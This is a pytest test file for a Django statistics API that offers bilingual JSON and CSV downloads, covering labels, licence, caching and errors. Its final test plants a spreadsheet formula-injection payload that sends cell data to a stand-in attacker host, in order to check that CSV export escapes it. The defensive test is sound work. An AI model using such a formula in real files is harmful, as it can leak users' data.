"""GET /api/v1/stats/ and its CSV downloads (issue 18, point 5): the same
figures, labelled in the chosen language, a licence and the time they were
computed, answered from the cache."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from figures.tables import TABLES
from tests.figures.conftest import at, loan

pytestmark = pytest.mark.django_db


def read_csv(response):
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")  # a Korean spreadsheet reads it as UTF-8
    lines = list(csv.reader(io.StringIO(body[1:])))
    blank = lines.index([])
    return lines[0], lines[1:blank], [line[0] for line in lines[blank + 1:]]


def test_the_json_in_english_and_korean(api, city):
    english = api.get("/api/v1/stats/", HTTP_ACCEPT_LANGUAGE="en").json()
    korean = api.get("/api/v1/stats/?lang=ko", HTTP_ACCEPT_LANGUAGE="en").json()
    assert english["totals"] == korean["totals"]
    assert english["totals"]["bookings_completed"] == 12
    assert english["totals"]["money_saved"] == 1_262_500
    assert english["min_people"] == 5 and english["currency"] == "KRW"
    assert {"kind": "space", "label": "Space", "listings": 1} in english["listings_by_kind"]
    assert {"kind": "space", "label": "공간", "listings": 1} in korean["listings_by_kind"]
    assert english["listings_by_category"][0] == {"category": "tools", "label": "Tools",
                                                  "listings": 2}
    assert korean["listings_by_category"][0]["label"] == "공구"
    assert [row["field"] for row in english["companies_by_field"]] == [
        "space", "goods", "mobility", "skills", "knowledge", "other"]
    assert english["licence"]["code"] == "KOGL-1"
    assert english["computed_at"].endswith("+09:00")
    assert "Secret Shed" not in str(english)


def test_the_licence_is_a_setting(api, city, settings):
    settings.STATS_LICENCE = "CC-BY-4.0"
    body = api.get("/api/v1/stats/?lang=en").json()
    assert body["licence"] == {"code": "CC-BY-4.0",
                               "name": "Creative Commons Attribution 4.0 International",
                               "url": "https://creativecommons.org/licenses/by/4.0/"}


@pytest.mark.parametrize("table", list(TABLES))
def test_each_csv_matches_the_json(api, city, table):
    data = api.get("/api/v1/stats/", HTTP_ACCEPT_LANGUAGE="en").json()
    response = api.get(f"/api/v1/stats/{table}.csv", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f"nanum-stats-{table}-en.csv" in response["Content-Disposition"]
    header, rows, notes = read_csv(response)
    assert header == [str(h) for _k, h in TABLES[table].columns]
    keys = [key for key, _h in TABLES[table].columns]
    if table == "totals":
        expected = [[key, None, value] for key, value in data["totals"].items()]
        assert [[r[0], None, int(r[2])] for r in rows] == expected
    else:
        def cell(value):
            return "" if value is None else str(value)
        assert rows == [[cell(row[key]) for key in keys] for row in data[table]]
    assert notes[1] == "Licence: Korea Open Government Licence, type 1 (attribution), " \
                       "https://www.kogl.or.kr/info/licenseType1.do"
    assert notes[2] == f"Computed at: {data['computed_at']}"


def test_csv_headers_in_korean(api, city):
    header, rows, notes = read_csv(api.get("/api/v1/stats/by_district.csv?lang=ko"))
    assert header[:3] == ["자치구 코드", "자치구", "물건"]
    assert rows[0][:3] == ["마포구", "마포구", "3"]
    assert rows[1] == ["서초구", "서초구"] + [""] * 6  # three people: not shown
    assert rows[2] == ["종로구", "종로구"] + [""] * 6  # two
    _header, english, _notes = read_csv(api.get("/api/v1/stats/by_district.csv?lang=en"))
    assert english[0][:2] == ["마포구", "Mapo-gu"]
    assert notes[1].startswith("이용 허락")


def test_months_are_iso(api, city):
    _header, rows, _notes = read_csv(api.get("/api/v1/stats/by_month.csv"))
    assert [r[0] for r in rows][:2] and all(len(r[0]) == 7 and r[0][4] == "-" for r in rows)


def test_bad_language_and_unknown_table(api, city):
    refused = api.get("/api/v1/stats/?lang=fr", HTTP_ACCEPT_LANGUAGE="en")
    assert refused.status_code == 400 and "lang" in refused.json()["fields"]
    assert api.get("/api/v1/stats/secrets.csv").status_code == 404


def test_answered_from_the_cache_without_a_query(api, city):
    first = api.get("/api/v1/stats/").json()
    loan(city.listings["drill"], city.people["bin"], at(3), at(4))
    with CaptureQueriesContext(connection) as queries:
        again = api.get("/api/v1/stats/").json()
        csv_again = api.get("/api/v1/stats/totals.csv")
    assert len(queries) == 0
    assert again == first  # the new loan waits for the next computation
    assert csv_again.status_code == 200


def test_the_cache_lasts_the_setting(api, city, settings):
    settings.STATS_CACHE_SECONDS = 0  # kept no time at all: each answer computes afresh
    assert api.get("/api/v1/stats/").json()["totals"]["bookings_completed"] == 12
    loan(city.listings["drill"], city.people["bin"], at(3), at(4))
    assert api.get("/api/v1/stats/").json()["totals"]["bookings_completed"] == 13


def test_a_csv_cell_never_starts_a_formula(api, city):
    library = city.communities["library"]
    library.name = '=HYPERLINK("http://evil.example/"&A1,"click")'
    library.save()
    _header, rows, _notes = read_csv(api.get("/api/v1/stats/communities.csv?lang=en"))
    assert rows[0][1] == '\'=HYPERLINK("http://evil.example/"&A1,"click")'
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
